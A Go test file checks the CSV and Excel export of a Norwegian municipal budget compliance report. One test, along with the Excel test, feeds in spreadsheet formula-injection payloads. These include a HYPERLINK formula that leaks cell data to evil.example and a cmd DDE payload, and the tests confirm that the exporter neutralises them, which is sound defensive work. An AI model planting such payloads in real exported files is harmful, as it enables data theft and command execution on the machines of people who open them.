package output

import (
	"bytes"
	"encoding/csv"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/baerum/styring/models"
)

// reportFixture is a small compliance report: two portfolio violations (one
// for a sector and year, with value and limit; one for the whole portfolio),
// a sector in two years, two initiatives, one of them blocked.
func reportFixture(lang models.Lang) models.ComplianceReport {
	f := func(v float64) *float64 { return &v }
	path := "/accessibility/wcag_level"
	return models.ComplianceReport{
		GeneratedAt:    time.Date(2026, 12, 1, 19, 36, 0, 0, time.UTC),
		PolicyRevision: "sha256:28e7744651f2c510c052d918995cc695f1de0d096dcea3b6cc6ff3af666cf195",
		AsOf:           "2022-09-20",
		Lang:           lang,
		Portfolio: models.PortfolioResult{
			Initiatives: 2,
			Summary:     models.Summary{Error: 2},
			Violations: []models.Violation{
				{RuleID: "PBUD-001", Severity: models.SeverityError, Sector: "OSK", Year: 2022, Value: f(5400), Limit: f(0), Message: "OSK over, \"5400\" kNOK", Reference: "Kommuneloven § 14-5"},
				{RuleID: "PFIN-002", Severity: models.SeverityError, Message: "Bufferfondet blir -120000 kNOK", Reference: "Kommuneloven § 14-2"},
			},
			Figures: models.PortfolioFigures{
				Sectors: []models.SectorYearFigures{
					{Sector: "OSK", Name: "Oppvekst skole", Year: 2022, NetChangeKNOK: 5400, NetFrameKNOK: 2250000, EfficiencyTargetPct: 0.7, EfficiencyTargetKNOK: 15750},
					{Sector: "OSK", Name: "Oppvekst skole", Year: 2023, NetChangeKNOK: -1000.5, NetFrameKNOK: 2250000, EfficiencySavingKNOK: 40000, EfficiencyTargetPct: 1.4, EfficiencyTargetKNOK: 31500},
				},
				Years: []models.YearFigures{
					{Year: 2022, OmstillingLevelKNOK: 126000, OmstillingRequiredKNOK: 100000, OmstillingUpperKNOK: 150000, TotalNetDriftKNOK: 5400, NetOperatingResultPct: 4.5, MinNetOperatingResultPct: 4},
					{Year: 2023, OmstillingLevelKNOK: 126000, OmstillingRequiredKNOK: 200000, OmstillingUpperKNOK: 300000, TotalNetDriftKNOK: -1000, NetOperatingResultPct: 3.2167, MinNetOperatingResultPct: 4},
				},
				BufferFund: models.BufferFundFigures{StartKNOK: 180000, UseKNOK: 300000, EndKNOK: -120000, MinimumKNOK: 100000},
			},
		},
		Records: models.RecordPicture{
			Initiatives: []models.InitiativeStanding{
				{ID: "HP2124-OSK-001", Title: "Digital skolestart", Sector: "OSK", Status: "forslag", Type: "omstilling", Version: 2, Summary: models.Summary{Error: 1},
					DecisionID: "dec-1", Violations: []models.Violation{{RuleID: "UU-001", Severity: models.SeverityError, Path: &path, Message: "WCAG-nivå 2.0 er for lavt", Reference: "Likestillings- og diskrimineringsloven § 18"}}},
				{ID: "HP2124-POM-002", Title: "Velferdsteknologi", Sector: "POM", Status: "vedtatt", Type: "investering", Version: 1, Allowed: true, Violations: []models.Violation{}},
			},
			Allowed: 1, NotAllowed: 1,
			ByRule:     []models.Count{{Key: "UU-001", Label: "Universell utforming", Error: 1, Total: 1}},
			ByCategory: []models.Count{{Key: "legal", Error: 1, Total: 1}},
			BySector:   []models.Count{{Key: "OSK", Error: 1, Total: 1}},
		},
	}
}

func readCSV(t *testing.T, b []byte) [][]string {
	t.Helper()
	rows, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
	if err != nil {
		t.Fatalf("not CSV: %v\n%s", err, b)
	}
	return rows
}

func TestWriteReportCSVOneTable(t *testing.T) {
	rep := reportFixture(models.LangNB)
	for _, c := range []struct {
		table string
		want  [][]string
	}{
		{"portfolio_violations", [][]string{
			{"rule_id", "severity", "sector", "year", "value", "limit", "message", "reference"},
			{"PBUD-001", "error", "OSK", "2022", "5400", "0", `OSK over, "5400" kNOK`, "Kommuneloven § 14-5"},
			{"PFIN-002", "error", "", "", "", "", "Bufferfondet blir -120000 kNOK", "Kommuneloven § 14-2"},
		}},
		{"sector_figures", [][]string{
			{"sector", "name", "year", "net_change_knok", "change_room_knok", "net_frame_knok", "efficiency_savings_knok", "efficiency_target_pct", "efficiency_target_knok"},
			{"OSK", "Oppvekst skole", "2022", "5400", "0", "2250000", "0", "0.7", "15750"},
			{"OSK", "Oppvekst skole", "2023", "-1000.5", "0", "2250000", "40000", "1.4", "31500"},
		}},
		{"year_figures", [][]string{
			{"year", "omstilling_level_knok", "omstilling_required_knok", "omstilling_upper_knok", "total_net_drift_knok", "net_operating_result_pct", "min_net_operating_result_pct"},
			{"2022", "126000", "100000", "150000", "5400", "4.5", "4"},
			{"2023", "126000", "200000", "300000", "-1000", "3.2167", "4"},
		}},
		{"buffer_fund", [][]string{{"start_of_plan_knok", "use_knok", "end_of_period_knok", "minimum_knok"}, {"180000", "300000", "-120000", "100000"}}},
		{"initiatives", [][]string{
			{"id", "title", "sector", "status", "type", "version", "allowed", "errors", "warnings", "info", "waived", "decision_id"},
			{"HP2124-OSK-001", "Digital skolestart", "OSK", "forslag", "omstilling", "2", "false", "1", "0", "0", "0", "dec-1"},
			{"HP2124-POM-002", "Velferdsteknologi", "POM", "vedtatt", "investering", "1", "true", "0", "0", "0", "0", ""},
		}},
		{"violations", [][]string{
			{"id", "rule_id", "severity", "path", "year", "message", "reference", "waived"},
			{"HP2124-OSK-001", "UU-001", "error", "/accessibility/wcag_level", "", "WCAG-nivå 2.0 er for lavt", "Likestillings- og diskrimineringsloven § 18", "false"},
		}},
		{"by_rule", [][]string{{"key", "errors", "warnings", "info", "total"}, {"UU-001", "1", "0", "0", "1"}}},
		{"by_category", [][]string{{"key", "errors", "warnings", "info", "total"}, {"legal", "1", "0", "0", "1"}}},
		{"by_sector", [][]string{{"key", "errors", "warnings", "info", "total"}, {"OSK", "1", "0", "0", "1"}}},
	} {
		t.Run(c.table, func(t *testing.T) {
			var b bytes.Buffer
			if err := WriteReportCSV(&b, rep, c.table); err != nil {
				t.Fatal(err)
			}
			if got := readCSV(t, b.Bytes()); !slices.EqualFunc(got, c.want, slices.Equal) {
				t.Errorf("got\n%q\nwant\n%q", got, c.want)
			}
		})
	}
}

func TestWriteReportCSVAllTables(t *testing.T) {
	var b bytes.Buffer
	if err := WriteReportCSV(&b, reportFixture(models.LangNB), ""); err != nil {
		t.Fatal(err)
	}
	rows := readCSV(t, b.Bytes())
	header := rows[0]
	if header[0] != "table" {
		t.Fatalf("the first column is %q, want table", header[0])
	}
	t.Run("the header is the union of every table's columns, each once", func(t *testing.T) {
		for _, tb := range ReportTables(reportFixture(models.LangNB)) {
			for _, c := range tb.Columns {
				if n := slices.Index(header, c); n < 0 || slices.Index(header[n+1:], c) >= 0 {
					t.Errorf("column %s of %s is in the header %d times", c, tb.Name, strings.Count(strings.Join(header, ","), c))
				}
			}
		}
	})
	t.Run("every row names its table, in the order of ReportTableNames", func(t *testing.T) {
		var seen []string
		for _, row := range rows[1:] {
			if len(row) != len(header) {
				t.Fatalf("a row of %d cells under a header of %d", len(row), len(header))
			}
			if !slices.Contains(seen, row[0]) {
				seen = append(seen, row[0])
			}
		}
		if !slices.Equal(seen, ReportTableNames) {
			t.Errorf("tables %v, want %v", seen, ReportTableNames)
		}
	})
	t.Run("a cell sits under its own column", func(t *testing.T) {
		col := func(name string) int { return slices.Index(header, name) }
		for _, row := range rows[1:] {
			if row[0] == "buffer_fund" && (row[col("end_of_period_knok")] != "-120000" || row[col("rule_id")] != "") {
				t.Errorf("buffer fund row %q", row)
			}
			if row[0] == "violations" && (row[col("id")] != "HP2124-OSK-001" || row[col("path")] != "/accessibility/wcag_level") {
				t.Errorf("violation row %q", row)
			}
		}
	})
}

func TestWriteReportCSVUnknownTable(t *testing.T) {
	var b bytes.Buffer
	err := WriteReportCSV(&b, reportFixture(models.LangNB), "nope")
	if models.ErrorCode(err) != models.EINVALID || !strings.Contains(err.Error(), "portfolio_violations") {
		t.Errorf("error %v, want invalid naming the tables", err)
	}
	if b.Len() != 0 {
		t.Errorf("wrote %q", b.String())
	}
}

// TestWriteReportCSVNeutralisesFormulas: a cell a spreadsheet would evaluate
// (=, +, -, @, tab, carriage return first) comes out with a leading single
// quote in every table and in the all-tables file; numbers, also negative
// ones, stay numbers.
func TestWriteReportCSVNeutralisesFormulas(t *testing.T) {
	rep := reportFixture(models.LangNB)
	hostile := []string{
		`=HYPERLINK("http://evil.example/?x="&A1,"Klikk")`,
		"+SUM(1,2)",
		"-2+3+cmd|' /C calc'!A0",
		"@SUM(A1:A9)",
		"\t=1+1",
		"\r=1+1",
		"-",
		"-1e5x",
		"+0x10",
	}
	rep.Records.Initiatives[0].Title = hostile[0]
	rep.Records.Initiatives[1].Title = hostile[1]
	rep.Records.Initiatives[0].Violations[0].Message = hostile[2]
	rep.Portfolio.Violations[0].Message = hostile[3]
	rep.Portfolio.Violations[1].Message = hostile[4]
	rep.Portfolio.Violations[0].Reference = hostile[5]
	rep.Portfolio.Figures.Sectors[0].Name = hostile[6]
	rep.Portfolio.Figures.Sectors[1].Name = hostile[7]
	rep.Records.ByRule[0].Key = hostile[8]
	for _, table := range append([]string{""}, ReportTableNames...) {
		var b bytes.Buffer
		if err := WriteReportCSV(&b, rep, table); err != nil {
			t.Fatal(err)
		}
		for _, row := range readCSV(t, b.Bytes()) {
			for _, cell := range row {
				if cell == "" {
					continue
				}
				switch cell[0] {
				case '=', '+', '-', '@', '\t', '\r':
					if !isDecimal(cell) {
						t.Errorf("table %q: cell %q is not neutralised", table, cell)
					}
				}
			}
		}
	}
	var b bytes.Buffer
	if err := WriteReportCSV(&b, rep, ""); err != nil {
		t.Fatal(err)
	}
	cells := map[string]bool{}
	for _, row := range readCSV(t, b.Bytes()) {
		for _, cell := range row {
			cells[cell] = true
		}
	}
	for _, h := range hostile {
		if !cells["'"+h] {
			t.Errorf("%q is not in the file as '%s", h, h)
		}
	}
	for _, n := range []string{"-120000", "-1000.5", "-1000", "5400", "0.7"} {
		if !cells[n] {
			t.Errorf("the number %s is not in the file as it was", n)
		}
	}
	if rep.Records.Initiatives[0].Title != hostile[0] {
		t.Errorf("the report itself was changed")
	}
}

func TestSafeCell(t *testing.T) {
	for in, want := range map[string]string{
		"":                   "",
		"Digital skolestart": "Digital skolestart",
		"=1+1":               "'=1+1",
		"+1+1":               "'+1+1",
		"-1+1":               "'-1+1",
		"@A1":                "'@A1",
		"\tx":                "'\tx",
		"\rx":                "'\rx",
		"-120000":            "-120000",
		"-1000.5":            "-1000.5",
		"+42":                "+42",
		"-.5":                "-.5",
		"-1.5e-3":            "-1.5e-3",
		"-1e":                "'-1e",
		"-.":                 "'-.",
		"-Inf":               "'-Inf",
		"- 5":                "'- 5",
		"a=1":                "a=1",
		"/budget/0":          "/budget/0",
		"'=1":                "'=1",
	} {
		if got := safeCell(in); got != want {
			t.Errorf("safeCell(%q) = %q, want %q", in, got, want)
		}
	}
}

// readExcelCSV checks the BOM and reads the ;-separated rest.
func readExcelCSV(t *testing.T, b []byte) [][]string {
	t.Helper()
	rest, ok := bytes.CutPrefix(b, []byte("\xef\xbb\xbf"))
	if !ok {
		t.Fatalf("no UTF-8 byte order mark: %q", b[:min(len(b), 10)])
	}
	if bytes.Contains(rest, []byte("\xef\xbb\xbf")) {
		t.Errorf("a second byte order mark")
	}
	r := csv.NewReader(bytes.NewReader(rest))
	r.Comma = ';'
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatalf("not ;-separated CSV: %v\n%s", err, rest)
	}
	return rows
}

// TestWriteReportCSVExcel: the Excel variant has a BOM, ";" between the
// cells, a decimal comma in the numbers (and only there), headers and table
// names in the report's language, and still neutralises formulas.
func TestWriteReportCSVExcel(t *testing.T) {
	rep := reportFixture(models.LangNB)
	rep.Records.Initiatives[0].Title = `=HYPERLINK("http://evil.example/?x="&A1,"Klikk")`
	rep.Portfolio.Figures.Sectors[1].Name = "-1.5" // text that looks like a number keeps its point
	t.Run("one table", func(t *testing.T) {
		var b bytes.Buffer
		if err := WriteReportCSVWith(&b, rep, "sector_figures", CSVOptions{Excel: true}); err != nil {
			t.Fatal(err)
		}
		want := [][]string{
			{"Sektor", "Navn", "År", "Netto endring (1000 kr)", "Endringsrom (1000 kr)", "Nettoramme (1000 kr)", "Varig effektivisering (1000 kr)", "Effektiviseringsmål (%)", "Effektiviseringsmål (1000 kr)"},
			{"OSK", "Oppvekst skole", "2022", "5400", "0", "2250000", "0", "0,7", "15750"},
			{"OSK", "-1.5", "2023", "-1000,5", "0", "2250000", "40000", "1,4", "31500"},
		}
		if got := readExcelCSV(t, b.Bytes()); !slices.EqualFunc(got, want, slices.Equal) {
			t.Errorf("got\n%q\nwant\n%q", got, want)
		}
		if !strings.Contains(b.String(), "Oppvekst skole;2022;5400;") {
			t.Errorf("not ;-separated: %s", b.String())
		}
	})
	t.Run("all tables", func(t *testing.T) {
		var b bytes.Buffer
		if err := WriteReportCSVWith(&b, rep, "", CSVOptions{Excel: true}); err != nil {
			t.Fatal(err)
		}
		rows := readExcelCSV(t, b.Bytes())
		if rows[0][0] != "Tabell" || !slices.Contains(rows[0], "Tittel") || !slices.Contains(rows[0], "Netto driftsresultat (%)") {
			t.Errorf("header %q", rows[0])
		}
		tables, cells := map[string]bool{}, map[string]bool{}
		for _, row := range rows[1:] {
			tables[row[0]] = true
			for _, c := range row {
				cells[c] = true
			}
		}
		for _, name := range ReportTableNames {
			if !tables[TableTitle(name, models.LangNB)] {
				t.Errorf("no rows of %s", TableTitle(name, models.LangNB))
			}
		}
		for _, c := range []string{`'=HYPERLINK("http://evil.example/?x="&A1,"Klikk")`, "-1000,5", "3,2167", "-120000", "-1.5"} {
			if !cells[c] {
				t.Errorf("%q is not in the file", c)
			}
		}
	})
	t.Run("English", func(t *testing.T) {
		var b bytes.Buffer
		if err := WriteReportCSVWith(&b, reportFixture(models.LangEN), "buffer_fund", CSVOptions{Excel: true}); err != nil {
			t.Fatal(err)
		}
		if got := readExcelCSV(t, b.Bytes())[0][0]; got != "Buffer fund at the start of the plan (NOK 1000)" {
			t.Errorf("header %q", got)
		}
	})
	t.Run("an unknown table writes nothing", func(t *testing.T) {
		var b bytes.Buffer
		if err := WriteReportCSVWith(&b, rep, "nope", CSVOptions{Excel: true}); err == nil || b.Len() > 0 {
			t.Errorf("err %v, %d bytes", err, b.Len())
		}
	})
	t.Run("the default stays for programs", func(t *testing.T) {
		var a, b bytes.Buffer
		if err := WriteReportCSV(&a, rep, ""); err != nil {
			t.Fatal(err)
		}
		if err := WriteReportCSVWith(&b, rep, "", CSVOptions{}); err != nil {
			t.Fatal(err)
		}
		if !bytes.Equal(a.Bytes(), b.Bytes()) || bytes.HasPrefix(a.Bytes(), []byte("\xef\xbb\xbf")) {
			t.Errorf("the default CSV changed")
		}
		if !strings.HasPrefix(a.String(), "table,rule_id,severity,sector,year,value,limit,message,reference,") {
			t.Errorf("default header %q", strings.SplitN(a.String(), "\n", 2)[0])
		}
	})
}
